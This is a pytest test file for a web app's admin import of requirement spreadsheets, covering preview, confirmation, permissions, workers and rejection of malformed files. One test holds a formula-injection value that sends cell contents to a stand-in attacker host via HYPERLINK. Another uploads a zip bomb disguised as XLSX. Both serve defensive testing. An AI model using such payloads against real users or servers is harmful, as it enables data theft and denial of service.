"""An administrator imports the ministries' spreadsheets: preview, confirm, and all that goes
wrong in real files. Every bad file gets a clear message and leaves the register as it was."""

from __future__ import annotations

import io
import logging
import re

import pytest
import sqlalchemy as sa

from review_app.audit import AuditEntry
from review_app.auth.models import GlobalRole
from review_app.extensions import db
from review_app.imports.models import ImportBatch, ImportStatus
from review_app.requirements.models import Area, Decision, Requirement, State
from review_app.reviews.models import Action, ReviewEvent
from tests.conftest import decide, login_as, page_text, propose, refused, reload
from tests.importing import EN, RU, RU4, csv_bytes, row, xlsx_bytes, zip_bomb

REGISTER = ("areas", "users", "area_memberships", "requirements", "review_events")


@pytest.fixture
def signed_in_admin(client, admin, fire, transport):
    login_as(client, admin)
    return admin


def register() -> dict[str, list[tuple]]:
    """Every row of the register's tables, to show that a refused file changed nothing."""
    db.session.expire_all()
    tables = db.metadata.tables
    return {name: [tuple(r) for r in db.session.execute(
        sa.select(tables[name]).order_by(*tables[name].primary_key.columns))]
        for name in REGISTER}


BOUNDARY = "import-test-boundary"


def multipart(fields: dict[str, str], filename: str | None = None,
              data: bytes = b"") -> bytes:
    """A multipart body built in memory (the test client would spool large files to a
    temporary file it never closes)."""
    parts = [f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="{k}"\r\n\r\n{v}\r\n'
             .encode() for k, v in fields.items()]
    if filename is not None:
        parts.append(f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="file"; '
                     f'filename="{filename}"\r\nContent-Type: application/octet-stream\r\n\r\n'
                     .encode() + data + b"\r\n")
    return b"".join(parts) + f"--{BOUNDARY}--\r\n".encode()


def upload(client, data: bytes, name: str = "перечень.xlsx", **options):
    fields = {"csrf_token": options.get("csrf_token") or client.csrf_token(),
              "encoding": options.get("encoding", "auto"),
              "delimiter": options.get("delimiter", "auto")}
    return client.post("/admin/imports/", data=multipart(fields, name, data),
                       content_type=f"multipart/form-data; boundary={BOUNDARY}")


def batch_id(response) -> int:
    assert response.status_code == 302, page_text(response)[:500]
    return int(re.search(r"/admin/imports/(\d+)$", response.location).group(1))


def preview(client, data: bytes, name: str = "перечень.xlsx", **options) -> tuple[int, str]:
    """Upload, follow to the preview page; return the batch id and the page's text."""
    ident = batch_id(upload(client, data, name, **options))
    page = client.get(f"/admin/imports/{ident}")
    assert page.status_code == 200
    return ident, page_text(page)


def confirm(client, ident: int):
    return client.post(f"/admin/imports/{ident}/confirm", data={})


def batch(ident: int) -> ImportBatch:
    db.session.expire_all()
    return db.session.get(ImportBatch, ident)


def codes() -> list[str]:
    return list(db.session.scalars(sa.select(Requirement.code).order_by(Requirement.code)))


THREE = [row("MCS-07-001", area="07", annual_cost_kzt="1 500 000", issuing_body="МЧС РК"),
         row("MCS-07-002", area="07"),
         row("MT-12-001", area="12", businesses_affected="340")]


# The main story --------------------------------------------------------------------------------

def test_admin_previews_a_file_then_confirms_and_reviewers_see_it(client, signed_in_admin,
                                                                  world, fire):
    ident, page = preview(client, xlsx_bytes(THREE))
    assert batch(ident).status == ImportStatus.READY
    assert "3 rows" in page and "3 new" in page and "0 changed" in page
    assert codes() == []  # nothing is written before the admin confirms

    response = confirm(client, ident)
    assert response.status_code == 302
    assert batch(ident).status == ImportStatus.APPLIED
    assert codes() == ["MCS-07-001", "MCS-07-002", "MT-12-001"]
    first = db.session.scalar(sa.select(Requirement).where(Requirement.code == "MCS-07-001"))
    assert (first.area.code, first.state, first.annual_cost_kzt, first.issuing_body) == (
        "07", State.UNREVIEWED, 1_500_000, "МЧС РК")
    assert "мчс-07-001" not in first.search_text and "mcs-07-001" in first.search_text
    entry = db.session.scalar(sa.select(AuditEntry).where(AuditEntry.action == "import_applied"))
    assert entry.actor_id == signed_in_admin.id and entry.details["new"] == 3
    assert "Imported by Admin" in page_text(client.get(f"/admin/imports/{ident}"))

    reviewer = world.user("rita", reviewer_in=(fire,))
    login_as(client, reviewer)
    listing = page_text(client.get("/requirements/"))
    assert "MCS-07-001" in listing and "MCS-07-002" in listing
    assert "MT-12-001" not in listing  # another area


def test_the_same_file_again_changes_nothing(client, signed_in_admin):
    data = csv_bytes(THREE)
    confirm(client, preview(client, data, "wave1.csv")[0])
    before = register()

    ident, page = preview(client, data, "wave1.csv")
    assert "0 new" in page and "0 changed" in page and "3 unchanged" in page
    assert "already imported" in page and "nothing to import" in page
    response = confirm(client, ident)  # even if confirmed anyway
    assert batch(ident).status == ImportStatus.APPLIED
    assert register() == before and response.status_code == 302


def test_a_changed_text_sends_a_decided_requirement_back_to_review(client, signed_in_admin,
                                                                   world, fire):
    rita = world.user("rita", reviewer_in=(fire,))
    leo = world.user("leo", lead_in=(fire,))
    req = world.requirement(fire, code="MCS-07-001", title="Огнетушители")
    old_text = req.text
    login_as(client, rita)
    propose(client, req, "cancel")
    login_as(client, leo)
    decide(client, req, "approve", "Согласен")
    assert reload(req).state == State.APPROVED
    version = reload(req).version

    new_text = old_text.replace("на каждом этаже", "в каждом помещении")
    login_as(client, signed_in_admin)
    ident, page = preview(client, xlsx_bytes([row("MCS-07-001", title="Огнетушители",
                                                  text=new_text)]))
    assert "1 changed" in page and "1 back to review" in page
    assert "MCS-07-001" in page and "approved" in page
    assert reload(req).state == State.APPROVED  # not yet

    confirm(client, ident)
    saved = reload(req)
    assert saved.text == new_text
    assert saved.state == State.RETURNED and saved.decision == Decision.CANCEL
    assert saved.decided_by_id is None and saved.version == version + 1
    event = db.session.scalars(sa.select(ReviewEvent).where(
        ReviewEvent.requirement_id == req.id).order_by(ReviewEvent.id.desc())).first()
    assert event.action == Action.WORDING_CHANGED
    assert (event.from_state, event.to_state) == (State.APPROVED, State.RETURNED)
    assert (event.text, event.new_wording) == (old_text, new_text)
    assert event.actor_id == signed_in_admin.id and event.version == saved.version

    # The reviewer sees why, and a form opened before the import is refused as stale.
    login_as(client, rita)
    html = client.get(f"/requirements/{req.id}").get_data(as_text=True)
    assert "changed the wording" in page_text(client.get(f"/requirements/{req.id}"))
    assert "<del>на каждом этаже</del>" in html or "<del>" in html
    stale = propose(client, req, "keep", version=version)
    assert "Someone else changed this requirement" in page_text(refused(client, stale))


def test_other_changes_update_without_a_new_review(client, signed_in_admin, world, fire):
    rita = world.user("rita", reviewer_in=(fire,))
    req = world.requirement(fire, code="MCS-07-001", title="Огнетушители")
    login_as(client, rita)
    propose(client, req, "cancel")
    login_as(client, signed_in_admin)
    ident, page = preview(client, csv_bytes([row("MCS-07-001", title="Огнетушители на объекте",
                                                 text=req.text, annual_cost_kzt="99")]))
    assert "1 changed" in page and "back to review" not in page
    # What changes is shown, old against new: a word diff for texts, old → new for numbers.
    html = client.get(f"/admin/imports/{ident}").get_data(as_text=True)
    assert "Огнетушители<ins> на объекте</ins>" in html
    assert re.search(r"annual_cost_kzt:</span>\s*<del>.*?</del> → <ins>99</ins>", html)
    assert f'href="/requirements/{req.id}"' in html
    confirm(client, ident)
    saved = reload(req)
    assert (saved.title, saved.annual_cost_kzt, saved.state) == (
        "Огнетушители на объекте", 99, State.PROPOSED)
    # No new review, but a trace: one event listing each changed field (issue item 12).
    assert [e.action for e in saved.events] == [Action.PROPOSE, Action.IMPORT_CHANGED]
    assert saved.events[-1].changes == {
        "title": ["Огнетушители", "Огнетушители на объекте"],
        "annual_cost_kzt": [1_500_000, 99]}


def test_columns_left_out_of_the_file_are_left_alone(client, signed_in_admin, world, fire):
    req = world.requirement(fire, code="MCS-07-001", title="T", text="X", article="п. 12")
    ident, page = preview(client, csv_bytes([row("MCS-07-001", title="T", text="X")],
                                            headers=RU4))
    assert "1 unchanged" in page
    confirm(client, ident)
    assert reload(req).article == "п. 12"


def test_empty_cells_leave_what_is_stored(client, signed_in_admin, world, fire):
    req = world.requirement(fire, code="MCS-07-001", title="T", text="X", article="п. 12",
                            annual_cost_kzt=700)
    ident, page = preview(client, csv_bytes([row("MCS-07-001", title="T", text="X",
                                                 article="", annual_cost_kzt="",
                                                 issuing_body="МЧС РК")]))
    assert "1 changed" in page
    assert "MCS-07-001 issuing_body" in page  # the only change; English: documented names
    confirm(client, ident)
    saved = reload(req)
    assert (saved.article, saved.annual_cost_kzt, saved.issuing_body) == ("п. 12", 700, "МЧС РК")


def test_a_reviewed_requirement_is_not_moved_to_another_area(client, signed_in_admin, world,
                                                             fire):
    rita = world.user("rita", reviewer_in=(fire,))
    req = world.requirement(fire, code="MCS-07-001")
    login_as(client, rita)
    propose(client, req, "cancel")
    login_as(client, signed_in_admin)
    before = register()
    ident, page = preview(client, csv_bytes([row("MCS-07-001", area="12", text=req.text,
                                                 title=req.title)]))
    assert batch(ident).status == ImportStatus.INVALID
    assert "already being reviewed" in page and "MCS-07-001" in page
    assert confirm(client, ident).status_code == 409
    assert register() == before


# Bad input: each a clear message, the register untouched ----------------------------------------

def test_an_empty_file(client, signed_in_admin):
    before = register()
    response = upload(client, b"", "пусто.csv")
    assert response.status_code == 400
    assert "The file is empty" in page_text(response)
    assert db.session.scalar(sa.select(sa.func.count()).select_from(ImportBatch)) == 0
    assert register() == before


def test_no_file_chosen(client, signed_in_admin):
    response = client.post("/admin/imports/", data=multipart(
        {"csrf_token": client.csrf_token(), "encoding": "auto", "delimiter": "auto"}),
        content_type=f"multipart/form-data; boundary={BOUNDARY}")
    assert response.status_code == 400 and "Choose the file to import" in page_text(response)


def test_a_binary_file_renamed_csv(client, signed_in_admin):
    before = register()
    ident, page = preview(client, bytes(range(256)) * 64, "перечень.csv")
    assert batch(ident).status == ImportStatus.INVALID
    assert "This is not a CSV or XLSX file" in page
    html = client.get(f"/admin/imports/{ident}").get_data(as_text=True)
    assert 'data-testid="confirm"' not in html
    # Said in words, not laid out as a table of cells with dashes.
    assert "This file cannot be imported; nothing was imported." in page
    assert 'data-testid="problem-table"' not in html and "Correct them in your" not in page
    assert register() == before


def test_a_50_mb_file(client, app, signed_in_admin):
    app.config["IMPORT_MAX_BYTES"] = 30 * 1024 * 1024  # the default (1 GB) is too much to send
    before = register()
    response = upload(client, b"x" * (50 * 1024 * 1024), "огромный.csv")
    assert response.status_code == 413
    assert "The file is too large: at most 30 MB" in page_text(response)
    assert db.session.scalar(sa.select(sa.func.count()).select_from(ImportBatch)) == 0
    assert register() == before


def test_a_zip_bomb_disguised_as_xlsx(client, app, signed_in_admin):
    app.config["IMPORT_MAX_UNCOMPRESSED"] = 20 * 1024 * 1024
    before = register()
    ident, page = preview(client, zip_bomb(64), "перечень.xlsx")
    assert batch(ident).status == ImportStatus.INVALID
    assert "would unpack to more than the server accepts" in page
    assert register() == before


def test_missing_columns(client, signed_in_admin):
    before = register()
    ident, page = preview(client, csv_bytes(THREE, headers=[RU[0], RU[2], RU[3]]))
    assert "Required columns are missing: area_code (Код сферы)" in page
    assert "This file cannot be imported" in page
    assert register() == before


def test_extra_columns_are_shown_and_ignored(client, signed_in_admin):
    raw = [[*RU4, "Примечание"], ["A-1", "07", "Заголовок", "Текст", "сверено"]]
    ident, page = preview(client, csv_bytes(raw=raw))
    assert "not recognised and are not imported: E: Примечание" in page
    assert batch(ident).status == ImportStatus.READY


def test_a_header_in_another_language(client, signed_in_admin):
    before = register()
    raw = [["Талап", "Сала", "Атауы", "Мәтіні"], ["A-1", "07", "x", "y"]]
    ident, page = preview(client, csv_bytes(raw=raw))
    assert "No row of column names was found" in page
    assert "Талап; Сала; Атауы; Мәтіні" in page
    assert "Код требования" in page  # what to write instead
    assert register() == before


def test_a_hyperlink_formula_in_a_cell(client, signed_in_admin):
    before = register()
    rows = [row("A-1"), row("A-2", title='=HYPERLINK("http://evil.example/?"&A1,"Открыть")')]
    ident, page = preview(client, xlsx_bytes(rows))
    assert batch(ident).error_count == 1
    assert "row 3" in page.lower() or "3 A-2 C" in page  # row, requirement code, column
    assert "A spreadsheet formula, not a value" in page
    assert register() == before


def test_a_value_far_to_the_right_of_the_table(client, signed_in_admin):
    from openpyxl import Workbook

    book = Workbook()
    for values in [RU4, ["A-1", "07", "Заголовок", "Текст"]]:
        book.active.append(values)
    book.active["XFD2"] = "забытая заметка"
    out = io.BytesIO()
    book.save(out)
    before = register()
    ident, page = preview(client, out.getvalue())
    assert batch(ident).status == ImportStatus.INVALID
    assert "Cell XFD2 holds a value far to the right of the table (beyond column AMJ)" in page
    assert register() == before


def test_kazakh_letters_lost_in_a_windows_1251_file_are_refused(client, signed_in_admin, world,
                                                                fire):
    req = world.requirement(fire, code="KZ-07-001", title="Кәсіпкерлік субъектілері",
                            text="Кәсіпкерлік субъектілері өрт сөндіргіштерді ұстауға міндетті.")
    rows = [row("KZ-07-001", title=req.title, text=req.text),
            row("KZ-07-002", title="Огнетушители на каждом этаже", text="Вопрос? Ответ.")]
    # What Excel's "CSV (comma delimited)" does on a Russian Windows: Kazakh letters become "?".
    data = csv_bytes(rows, encoding="utf-8").decode().encode("cp1251", errors="replace")
    before = register()
    ident, page = preview(client, data, "перечень.csv")
    saved = batch(ident)
    assert saved.status == ImportStatus.INVALID and saved.error_count == 2  # title and text
    assert "letters were lost when the file was saved" in page and "К?сіпкерлік" in page
    assert register() == before


def test_kazakh_column_names_are_understood(client, signed_in_admin):
    raw = [["Талап коды", "Сала коды", "Атауы", "Талап мәтіні", "Жылдық шығындар, теңге"],
           ["KZ-07-001", "07", "Өрт қауіпсіздігі", "Мәтін", "1 500 000"]]
    ident, page = preview(client, csv_bytes(raw=raw), "тізбе.csv")
    assert batch(ident).status == ImportStatus.READY and batch(ident).new_count == 1


def test_rows_hidden_in_the_spreadsheet_are_named_in_a_warning(client, signed_in_admin):
    from openpyxl import Workbook

    book = Workbook()
    for values in [RU4, *([f"A-{n}", "07", "Заголовок", "Текст"] for n in range(1, 30))]:
        book.active.append(values)
    for number in (3, *range(5, 30)):
        book.active.row_dimensions[number].hidden = True
    out = io.BytesIO()
    book.save(out)
    ident, page = preview(client, out.getvalue())
    assert batch(ident).status == ImportStatus.READY and batch(ident).new_count == 29
    assert ("Rows hidden in the spreadsheet are imported like the others: 3, 5, 6, 7, 8, 9, 10, "
            "11, 12, 13, 14, 15, 16, 17, 18, 19, 20, 21, 22, 23 and 6 more.") in page


def test_10000_rows_with_one_wrong(client, signed_in_admin):
    rows = [row(f"MCS-{i:05d}", area="07" if i % 2 else "12") for i in range(10_000)]
    rows[7_345]["annual_cost_kzt"] = "1,5 млн"
    data = csv_bytes(rows)
    before = register()
    ident, page = preview(client, data, "большой.csv")
    saved = batch(ident)
    assert saved.status == ImportStatus.INVALID and saved.error_count == 1
    problem = saved.report["errors"][0]
    assert (problem["row"], problem["letter"], problem["code"]) == (7_347, "J", "bad_number")
    assert "1 problem" in page and "1,5 млн" in page
    assert confirm(client, ident).status_code == 409
    assert register() == before

    rows[7_345]["annual_cost_kzt"] = "1500000"
    ident, page = preview(client, csv_bytes(rows), "большой-исправлен.csv")
    assert "10,000 new" in page
    confirm(client, ident)
    assert db.session.scalar(sa.select(sa.func.count()).select_from(Requirement)) == 10_000


def test_the_errors_can_be_downloaded_to_work_through(client, signed_in_admin):
    rows = [row("A-1", area="99"), row("A-2", text="=1+2")]
    ident, _ = preview(client, csv_bytes(rows))
    response = client.get(f"/admin/imports/{ident}/errors.csv")
    text = response.get_data().decode("utf-8-sig")
    assert response.status_code == 200 and "No area has this code" in text
    assert "'=1+2" in text  # the value is shown, neutralised


def test_a_file_with_errors_cannot_be_confirmed(client, signed_in_admin):
    ident, _ = preview(client, csv_bytes([row("A-1", area="99")]))
    response = confirm(client, ident)
    assert response.status_code == 409
    assert "cannot be imported now" in page_text(response)
    assert "No area has this code" in page_text(response)  # the page still says why
    assert codes() == []


def test_confirming_twice_imports_once(client, signed_in_admin):
    ident, _ = preview(client, csv_bytes(THREE))
    confirm(client, ident)
    before = register()
    assert confirm(client, ident).status_code == 409
    assert register() == before


def test_a_discarded_file_is_gone(client, signed_in_admin):
    ident, _ = preview(client, csv_bytes(THREE))
    client.post(f"/admin/imports/{ident}/discard", data={})
    assert batch(ident).status == ImportStatus.DISCARDED
    assert confirm(client, ident).status_code == 409
    assert codes() == []


def test_an_imported_file_cannot_be_discarded(client, signed_in_admin):
    ident, _ = preview(client, csv_bytes(THREE))
    confirm(client, ident)
    response = client.post(f"/admin/imports/{ident}/discard", data={})
    assert response.status_code == 409 and "cannot be discarded" in page_text(response)
    assert batch(ident).status == ImportStatus.APPLIED and len(codes()) == 3


def test_the_example_files_import_cleanly(client, signed_in_admin, world):
    for code in ("01", "02", "03"):
        world.area(code, f"Сфера {code}")
    for fmt in ("xlsx", "csv"):
        response = client.get(f"/admin/imports/example.{fmt}")
        assert response.status_code == 200
        ident, page = preview(client, response.data, f"example.{fmt}")
        assert batch(ident).status == ImportStatus.READY, page
        assert batch(ident).new_count == 3


# Who may import --------------------------------------------------------------------------------

@pytest.mark.parametrize("who", ["reviewer", "lead", "manager"])
def test_only_admins_import(client, world, fire, who, caplog):
    person = {"reviewer": lambda: world.user("r", reviewer_in=(fire,)),
              "lead": lambda: world.user("l", lead_in=(fire,)),
              "manager": lambda: world.user("m", role=GlobalRole.MANAGER)}[who]()
    admin = world.user("admin", role=GlobalRole.ADMIN)
    login_as(client, admin)
    ident = batch_id(upload(client, csv_bytes(THREE[:2])))
    login_as(client, person)
    before = register()
    with caplog.at_level(logging.WARNING, logger="review_app.permissions"):
        assert client.get("/admin/imports/").status_code == 403
        assert upload(client, csv_bytes(THREE)).status_code == 403
        assert client.get(f"/admin/imports/{ident}").status_code == 403
        assert confirm(client, ident).status_code == 403
        assert client.get(f"/admin/imports/{ident}/errors.csv").status_code == 403
        assert client.get("/admin/imports/example.xlsx").status_code == 403
    assert "action=import" in caplog.text
    assert register() == before and batch(ident).status == ImportStatus.READY
    denied = db.session.scalars(sa.select(AuditEntry).where(AuditEntry.action == "denied",
                                                            AuditEntry.actor_id == person.id))
    assert len(list(denied)) == 6


def test_anonymous_upload_goes_to_sign_in(client, fire):
    response = upload(client, csv_bytes(THREE))
    assert response.status_code == 302 and "/login" in response.location


def test_upload_without_the_form_token_is_refused(client, signed_in_admin):
    response = upload(client, csv_bytes(THREE), "x.csv", csrf_token="forged")
    assert response.status_code == 400 and "expired" in page_text(response)
    assert db.session.scalar(sa.select(sa.func.count()).select_from(ImportBatch)) == 0


# Large files, in the background ----------------------------------------------------------------

def run_worker(app) -> None:
    from rq import SimpleWorker

    from review_app.redis_conn import get_redis

    with app.app_context():
        SimpleWorker(["imports"], connection=get_redis(app)).work(burst=True)


def test_a_large_file_is_checked_and_imported_by_a_worker(client, app, signed_in_admin):
    app.config["IMPORT_SYNC_MAX_BYTES"] = 100
    rows = [row(f"BIG-{i:04d}", area="07") for i in range(1500)]
    ident = batch_id(upload(client, csv_bytes(rows), "большой.csv"))
    assert batch(ident).status == ImportStatus.QUEUED
    page = page_text(client.get(f"/admin/imports/{ident}"))
    assert "Waiting for a background worker" in page
    assert "No background worker is running" in page

    run_worker(app)
    assert batch(ident).status == ImportStatus.READY and batch(ident).new_count == 1500
    from review_app.imports.batches import get_progress

    with app.app_context():
        assert get_progress(ident)["done"] == 1500

    confirm(client, ident)
    assert batch(ident).status == ImportStatus.APPLYING
    assert "Importing" in page_text(client.get(f"/admin/imports/{ident}"))
    run_worker(app)
    assert batch(ident).status == ImportStatus.APPLIED
    assert len(codes()) == 1500


def test_a_worker_failure_is_shown_and_writes_nothing(client, app, signed_in_admin,
                                                      monkeypatch):
    app.config["IMPORT_SYNC_MAX_BYTES"] = 100
    ident = batch_id(upload(client, csv_bytes(THREE)))
    run_worker(app)
    confirm(client, ident)
    before = register()

    from review_app.imports import service

    def broken(*args, **kwargs):
        raise RuntimeError("disk full")

    monkeypatch.setattr(service, "apply", broken)
    run_worker(app)
    failed = batch(ident)
    assert failed.status == ImportStatus.FAILED and "disk full" in failed.failure
    assert "Nothing was imported" in page_text(client.get(f"/admin/imports/{ident}"))
    assert register() == before


def test_a_job_lost_with_its_worker_is_shown_as_failed(client, app, signed_in_admin):
    app.config["IMPORT_SYNC_MAX_BYTES"] = 100
    ident = batch_id(upload(client, csv_bytes(THREE)))
    from rq.job import Job

    from review_app.redis_conn import get_redis

    with app.app_context():
        Job.fetch(f"import-analyse-{ident}", connection=get_redis(app)).delete()
    page = page_text(client.get(f"/admin/imports/{ident}"))
    assert batch(ident).status == ImportStatus.FAILED
    assert "stopped unexpectedly" in page and "Nothing was imported" in page


def _started(ident: int, status: ImportStatus, minutes_ago: int, by) -> None:
    """As if a request had claimed the batch that long ago (and perhaps died since)."""
    from datetime import timedelta

    from review_app.time import utcnow

    db.session.execute(sa.update(ImportBatch).where(ImportBatch.id == ident).values(
        status=status, applied_by_id=by.id, started_at=utcnow() - timedelta(minutes=minutes_ago)))
    db.session.commit()


def test_an_import_cut_off_with_its_request_is_shown_as_failed(client, signed_in_admin):
    ident, _ = preview(client, csv_bytes(THREE), "перечень.csv")
    before = register()
    _started(ident, ImportStatus.APPLYING, 2, signed_in_admin)
    assert "being imported" in page_text(client.get(f"/admin/imports/{ident}")).lower()
    assert batch(ident).status == ImportStatus.APPLYING  # still within a request's time

    _started(ident, ImportStatus.APPLYING, 20, signed_in_admin)
    page = page_text(client.get(f"/admin/imports/{ident}"))
    assert batch(ident).status == ImportStatus.FAILED
    assert "was cut off" in page and "Nothing was imported" in page
    assert register() == before
    entry = db.session.scalar(sa.select(AuditEntry).where(AuditEntry.target_id == ident)
                              .order_by(AuditEntry.id.desc()).limit(1))
    assert entry.action == "import_failed" and entry.actor_id == signed_in_admin.id
    assert confirm(client, ident).status_code == 409  # a failed batch cannot be imported


# The command line ------------------------------------------------------------------------------

def test_command_line_dry_run_then_import(runner, tmp_path, admin, fire, transport):
    good = tmp_path / "wave.xlsx"
    good.write_bytes(xlsx_bytes(THREE))
    result = runner.invoke(args=["import-requirements", str(good), "--dry-run"])
    assert result.exit_code == 0, result.output
    assert "new: 3" in result.output and "Dry run" in result.output
    assert codes() == []

    result = runner.invoke(args=["import-requirements", str(good)])
    assert result.exit_code == 0, result.output
    assert "Imported by admin@example.kz" in result.output
    assert len(codes()) == 3

    result = runner.invoke(args=["import-requirements", str(good)])
    assert "new: 0; changed: 0 (back to review: 0); unchanged: 3" in result.output


def test_command_line_reports_problems_and_writes_nothing(runner, tmp_path, admin, fire):
    bad = tmp_path / "wave.csv"
    bad.write_bytes(csv_bytes([row("A-1"), row("A-2", area="99")], headers=EN))
    before = register()
    result = runner.invoke(args=["import-requirements", str(bad)])
    assert result.exit_code == 1
    assert "row 3, column B “area_code”: No area has this code" in result.output
    assert "Nothing was imported" in result.output
    assert register() == before


def test_command_line_needs_to_know_which_admin(runner, tmp_path, world, admin, fire):
    world.user("second", role=GlobalRole.ADMIN)
    path = tmp_path / "wave.csv"
    path.write_bytes(csv_bytes(THREE[:2]))
    result = runner.invoke(args=["import-requirements", str(path)])
    assert result.exit_code != 0 and "--as" in result.output
    result = runner.invoke(args=["import-requirements", str(path), "--as", "second@example.kz"])
    assert result.exit_code == 0, result.output
    assert db.session.scalar(sa.select(Area.code).join(Requirement)) == "07"


# Large files: written chunk by chunk, still all or nothing ----------------------------------------

def test_changes_across_chunk_boundaries_each_leave_one_event(client, app, signed_in_admin,
                                                               world, fire, transport):
    """Chunks of 3 rows: new rows, plain changes (one statement per chunk), a new text and an
    area move land in different chunks; each changed requirement gets exactly its event."""
    app.config["IMPORT_CHUNK_ROWS"] = 3
    old = {code: world.requirement(fire, code=code, title=f"Старое {code}",
                                   annual_cost_kzt=1000)
           for code in ("CH-01", "CH-02", "CH-03", "CH-04", "CH-05")}
    versions = {code: req.version for code, req in old.items()}
    text = old["CH-01"].text
    rows = [row("NEW-01"),
            row("CH-01", title="Новое CH-01", text=text),                     # chunk 1
            row("CH-02", title="Старое CH-02", text=text, annual_cost_kzt="2000"),
            row("NEW-02"),                                                     # chunk 2
            row("CH-03", title="Старое CH-03", text="Новая редакция CH-03."),
            row("CH-04", area="12", title="Старое CH-04", text=text),
            row("CH-05", title="Старое CH-05", text=text),                     # chunk 3
            row("NEW-03"), row("NEW-04"),
            row("NEW-05")]                                                     # chunk 4
    ident, page = preview(client, csv_bytes(rows))
    assert "5 new" in page and "4 changed" in page and "1 unchanged" in page
    confirm(client, ident)
    assert batch(ident).status == ImportStatus.APPLIED
    assert len(codes()) == 10

    def changes(code: str) -> list[tuple[Action, dict | None]]:
        return [(e.action, e.changes) for e in reload(old[code]).events]

    assert changes("CH-01") == [(Action.IMPORT_CHANGED,
                                 {"title": ["Старое CH-01", "Новое CH-01"]})]
    assert changes("CH-02") == [(Action.IMPORT_CHANGED, {"annual_cost_kzt": [1000, 2000]})]
    assert [a for a, _ in changes("CH-03")] == [Action.WORDING_CHANGED]
    assert changes("CH-04") == [(Action.IMPORT_CHANGED, {"area_code": ["07", "12"]})]
    assert changes("CH-05") == []
    saved = {code: reload(req) for code, req in old.items()}
    assert saved["CH-01"].title == "Новое CH-01" and "новое ch-01" in saved["CH-01"].search_text
    assert saved["CH-02"].annual_cost_kzt == 2000
    assert saved["CH-04"].area_id == transport.id
    assert {c: r.version - versions[c] for c, r in saved.items()} == {
        "CH-01": 1, "CH-02": 1, "CH-03": 1, "CH-04": 1, "CH-05": 0}
    # The history replays to what is stored, and the dashboard's tallies follow the moves.
    from review_app import consistency
    from review_app.dashboard import rollups

    assert consistency.check(db.session) == []
    assert rollups.differences(db.session) == []


def test_a_problem_found_in_a_later_chunk_leaves_nothing_written(client, app, signed_in_admin,
                                                                 world, fire):
    """The register changes between preview and confirmation so that the 4th chunk is wrong:
    the chunks before it were already written in the transaction, and are rolled back."""
    app.config["IMPORT_CHUNK_ROWS"] = 2
    rita = world.user("rita", reviewer_in=(fire,))
    late = world.requirement(fire, code="ZZ-LATE")
    rows = [row(f"NEW-{i:02d}") for i in range(6)] + [
        row("ZZ-LATE", area="12", title=late.title, text=late.text)]
    ident, page = preview(client, csv_bytes(rows))
    assert batch(ident).status == ImportStatus.READY
    login_as(client, rita)
    propose(client, late, "cancel")  # now reviewed: it may no longer move to area 12
    login_as(client, signed_in_admin)
    before = register()
    confirm(client, ident)
    refused_batch = batch(ident)
    assert refused_batch.status == ImportStatus.INVALID
    assert [(e["code"], e["row"]) for e in refused_batch.report["errors"]] == [
        ("reviewed_area_move", 8)]
    assert register() == before


def test_a_failure_in_the_middle_of_writing_leaves_nothing(client, app, signed_in_admin,
                                                           monkeypatch):
    app.config["IMPORT_CHUNK_ROWS"] = 2
    ident, _ = preview(client, csv_bytes([row(f"NEW-{i:02d}") for i in range(7)]))
    before = register()

    from review_app.imports import service

    written = []
    insert = service._Writer.insert

    def insert_then_fail(self, rows):
        if len(written) == 2:
            raise RuntimeError("connection lost")
        written.append(len(rows))
        insert(self, rows)

    monkeypatch.setattr(service._Writer, "insert", insert_then_fail)
    with pytest.raises(RuntimeError):
        confirm(client, ident)
    assert written == [2, 2]  # two chunks were in the transaction when it failed
    assert batch(ident).status == ImportStatus.FAILED
    assert register() == before


def test_a_file_over_the_row_limit_is_refused_naming_it(client, app, signed_in_admin):
    app.config["IMPORT_MAX_ROWS"] = 5
    before = register()
    ident, page = preview(client, csv_bytes([row(f"NEW-{i:02d}") for i in range(6)]))
    assert batch(ident).status == ImportStatus.INVALID
    assert "The file has more than 5 rows. Split it into several files." in page
    assert confirm(client, ident).status_code == 409
    assert register() == before
    ident, page = preview(client, csv_bytes([row(f"NEW-{i:02d}") for i in range(5)]))
    assert "5 new" in page
